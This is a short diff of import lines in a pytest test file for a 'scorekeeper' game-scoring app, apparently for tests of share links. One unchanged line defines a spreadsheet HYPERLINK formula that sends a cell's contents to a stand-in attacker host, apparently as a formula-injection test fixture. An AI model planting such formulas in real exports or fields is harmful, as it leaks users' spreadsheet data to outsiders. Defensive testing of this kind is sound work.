@@ -14,12 +14,11 @@ from datetime import timedelta
 
 import pytest
 
+from scorekeeper.engine.games import Game
 from scorekeeper.extensions import db
-from scorekeeper.games import Game
 from scorekeeper.models import ShareLink, utcnow
+from tests.api.helpers import post_round, sign_up
 from tests.picks import any_game, other_round, rounds, seats
-
-from .helpers import post_round, sign_up
 
 PASSWORD = "correct horse battery"
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'
